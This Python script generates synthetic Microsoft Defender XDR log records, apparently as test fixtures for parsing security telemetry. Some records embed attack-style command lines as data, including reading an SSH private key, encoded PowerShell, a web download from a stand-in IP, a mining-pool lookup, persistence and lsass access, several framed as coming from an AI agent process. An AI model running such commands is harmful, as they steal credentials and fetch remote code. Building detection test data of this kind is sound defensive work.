#!/usr/bin/env python3
"""Makes SYNTHETIC records of the streaming API of Microsoft Defender XDR.

Needs    python3.
Installs nothing.
Writes   schemas/sources/microsoft.defender/testdata/synthetic_streaming.ndjson   one record a line (storage blobs)
         schemas/sources/microsoft.defender/testdata/synthetic_eventhub.json      a message of an event hub

Defender is a paid service: nothing is recorded. Tables, columns and the odd
types (AdditionalFields as text, seven digits of a second) follow published samples.
"""

import json

import common
import synthetic as s

TENANT = "11111111-2222-3333-4444-555555555555"


def stamp(i):
    return s.at(i, "%Y-%m-%dT%H:%M:%S.%f") + "4Z"


def record(i, table, **properties):
    return {"time": stamp(i + 300), "tenantId": TENANT, "operationName": "Publish", "category": "AdvancedHunting-" + table,
            "properties": {"Timestamp": stamp(i), **properties}, "Tenant": "DefaultTenant", "_TimeReceivedBySvc": stamp(i + 290)}


def device(i, table, action, initiator="node.exe", command="node mcp-server.js", additional=None, **more):
    return record(i, table, DeviceId="de6509d550e605faf3bbeac0905ab9590fe1aaaa", DeviceName="ds-laptop.corp.example", ActionType=action,
                  MachineGroup="UnassignedGroup", ReportId=2800 + i, AppGuardContainerId="", AdditionalFields=additional,
                  InitiatingProcessFileName=initiator, InitiatingProcessFolderPath="c:\\program files\\nodejs\\" + initiator, InitiatingProcessId=5692,
                  InitiatingProcessCommandLine=command, InitiatingProcessCreationTime=stamp(-60), InitiatingProcessSHA1=s.digest(initiator, 40),
                  InitiatingProcessSHA256=s.digest(initiator), InitiatingProcessMD5=s.digest(initiator, 32), InitiatingProcessParentFileName="claude.exe",
                  InitiatingProcessParentId=4100, InitiatingProcessParentCreationTime=stamp(-600), InitiatingProcessAccountDomain="corp",
                  InitiatingProcessAccountName="ana", InitiatingProcessAccountSid="S-1-5-21-1-2-3-1001", InitiatingProcessAccountUpn="ana@corp.example",
                  InitiatingProcessAccountObjectId="6f0b8a0e-0000-0000-0000-000000000001", InitiatingProcessLogonId=1431021, InitiatingProcessIntegrityLevel="Medium",
                  InitiatingProcessTokenElevation="TokenElevationTypeLimited", **more)


def process(i, name, command, **more):
    return device(i, "DeviceProcessEvents", "ProcessCreated", FileName=name, FolderPath="C:\\Windows\\System32\\" + name, SHA1=s.digest(name, 40), SHA256=s.digest(name),
                  MD5=s.digest(name, 32), FileSize=452608, ProcessId=4240 + i, ProcessCommandLine=command, ProcessIntegrityLevel="Medium",
                  ProcessTokenElevation="TokenElevationTypeLimited", ProcessCreationTime=stamp(i), AccountDomain="corp", AccountName="ana",
                  AccountSid="S-1-5-21-1-2-3-1001", AccountUpn="ana@corp.example", AccountObjectId="6f0b8a0e-0000-0000-0000-000000000001", LogonId=1431021,
                  ProcessVersionInfoCompanyName="Microsoft Corporation", ProcessVersionInfoProductName="Microsoft Windows", ProcessVersionInfoOriginalFileName=name,
                  ProcessVersionInfoFileDescription="A program", **more)


RECORDS = [
    process(1, "powershell.exe", "powershell -enc SQBFAFgA"),
    process(2, "cmd.exe", "cmd.exe /d /s /c \"type C:\\Users\\ana\\.ssh\\id_ed25519\""),
    device(3, "DeviceNetworkEvents", "ConnectionSuccess", RemoteIP="198.51.100.9", RemotePort=443, RemoteUrl="files.example.net", LocalIP="192.0.2.30", LocalPort=50112,
           Protocol="Tcp", LocalIPType="Private", RemoteIPType="Public"),
    device(4, "DeviceNetworkEvents", "InboundConnectionAccepted", "ollama.exe", "ollama serve", RemoteIP="203.0.113.66", RemotePort=50113, LocalIP="192.0.2.30", LocalPort=11434,
           Protocol="Tcp", LocalIPType="Private", RemoteIPType="Public"),
    device(5, "DeviceNetworkEvents", "ListeningConnectionCreated", "ollama.exe", "ollama serve", LocalIP="0.0.0.0", LocalPort=11434, Protocol="Tcp"),
    device(6, "DeviceNetworkEvents", "DnsConnectionInspected", additional="{\"direction\":\"Out\",\"conn_state\":\"SF\",\"query\":\"xmr.pool.example\",\"qtype_name\":\"A\",\"answers\":\"[\\\"203.0.113.66\\\"]\",\"rcode_name\":\"NOERROR\"}",
           RemoteIP="192.0.2.53", RemotePort=53, LocalIP="192.0.2.30", LocalPort=53011, Protocol="Udp"),
    device(7, "DeviceFileEvents", "FileCreated", FileName="model.safetensors", FolderPath="C:\\Users\\ana\\Downloads\\model.safetensors", SHA256=s.digest("m"), SHA1=s.digest("m", 40),
           MD5=s.digest("m", 32), FileSize=4976698672, FileOriginUrl="https://huggingface.example/x/model.safetensors", FileOriginIP="198.51.100.81", SensitivityLabel=None),
    device(8, "DeviceFileEvents", "FileRenamed", FileName="a.locked", FolderPath="C:\\Users\\ana\\a.locked", PreviousFileName="a.docx", PreviousFolderPath="C:\\Users\\ana", SHA256=""),
    device(9, "DeviceImageLoadEvents", "ImageLoaded", FileName="evil.dll", FolderPath="C:\\Users\\ana\\evil.dll", SHA256=s.digest("d"), SHA1=s.digest("d", 40), MD5=s.digest("d", 32)),
    device(10, "DeviceRegistryEvents", "RegistryValueSet", RegistryKey="HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", RegistryValueName="updater",
           RegistryValueData="C:\\Users\\ana\\x.exe", RegistryValueType="String", PreviousRegistryValueData=None),
    device(11, "DeviceLogonEvents", "LogonFailed", "svchost.exe", "svchost.exe -k netsvcs", AccountDomain="corp", AccountName="administrator", AccountSid="S-1-5-21-1-2-3-500", LogonType="Network",
           RemoteIP="203.0.113.66", RemotePort=50900, RemoteDeviceName="KALI", FailureReason="InvalidUserNameOrPassword", IsLocalAdmin=None, LogonId=0, Protocol="NTLM"),
    device(12, "DeviceLogonEvents", "LogonSuccess", "svchost.exe", "svchost.exe -k netsvcs", AccountDomain="corp", AccountName="ana", AccountSid="S-1-5-21-1-2-3-1001", LogonType="RemoteInteractive",
           RemoteIP="203.0.113.66", RemotePort=50901, RemoteDeviceName="KALI", IsLocalAdmin=True, LogonId=1431099, Protocol="Negotiate"),
    device(13, "DeviceEvents", "PowerShellCommand", "powershell.exe", "powershell -enc SQBFAFgA", additional="{\"Command\":\"Invoke-WebRequest http://198.51.100.9/p\"}"),
    device(14, "DeviceEvents", "CreateRemoteThreadApiCall", FileName="lsass.exe", FolderPath="C:\\Windows\\System32", ProcessId=720, AccountName="system", AccountDomain="nt authority"),
    device(15, "DeviceEvents", "ScheduledTaskCreated", additional="{\"TaskName\":\"\\\\updater\"}"),
    device(16, "DeviceEvents", "AntivirusDetection", additional="{\"ThreatName\":\"Trojan:Win32/Synthetic\",\"WasRemediated\":true,\"Action\":2}", FileName="x.exe", FolderPath="C:\\Users\\ana", SHA256=s.digest("x")),
    device(17, "DeviceEvents", "DnsQueryResponse", additional={"DnsQueryString": "api.llm.example.com", "DnsQueryResult": "[]"}),
    record(18, "AlertInfo", AlertId="da63-1", Title="Suspicious execution from an AI agent process", Category="Execution", Severity="High", ServiceSource="Microsoft Defender for Endpoint",
           DetectionSource="EDR", AttackTechniques="[\"PowerShell (T1059.001)\",\"System Binary Proxy Execution (T1218)\"]"),
    record(19, "AlertEvidence", AlertId="da63-1", EntityType="Process", EvidenceRole="Related", EvidenceDirection="", Categories="[\"Execution\"]", DeviceId="de65", DeviceName="ds-laptop.corp.example",
           FileName="powershell.exe", FolderPath="C:\\Windows\\System32", ProcessCommandLine="powershell -enc SQBFAFgA", SHA256=s.digest("powershell.exe"), AccountName="ana", Severity="High",
           Title="Suspicious execution from an AI agent process", ServiceSource="Microsoft Defender for Endpoint", DetectionSource="EDR", AttackTechniques="[\"PowerShell (T1059.001)\"]", AdditionalFields="{}"),
    record(20, "CloudAppEvents", ActionType="FileDownloaded", Application="Microsoft SharePoint Online", AccountDisplayName="Ana", AccountId="ana@corp.example", AccountObjectId="6f0b", IPAddress="203.0.113.66",
           ObjectName="https://corp.example/weights.bin", ObjectType="File", UserAgent="curl/8.15.0", ActivityType="Download", CountryCode="XX", RawEventData={"Workload": "SharePoint"}),
    record(21, "IdentityLogonEvents", ActionType="LogonFailed", Application="Active Directory", LogonType="Credentials validation", Protocol="Ntlm", AccountName="ana", AccountDomain="corp.example",
           AccountUpn="ana@corp.example", AccountSid="S-1-5-21-1-2-3-1001", IPAddress="203.0.113.66", DeviceName="KALI", DestinationDeviceName="dc-1.corp.example", DestinationIPAddress="192.0.2.10", FailureReason="WrongPassword"),
    record(22, "DeviceInfo", DeviceId="de65", DeviceName="ds-laptop.corp.example", OSPlatform="Windows11", ClientVersion="10.8"),
]

if __name__ == "__main__":
    s.write("microsoft.defender", "synthetic_streaming.ndjson", RECORDS)
    common.write(common.testdata("microsoft.defender") / "synthetic_eventhub.json", json.dumps({"records": RECORDS[:3]}, indent=1).encode() + b"\n")
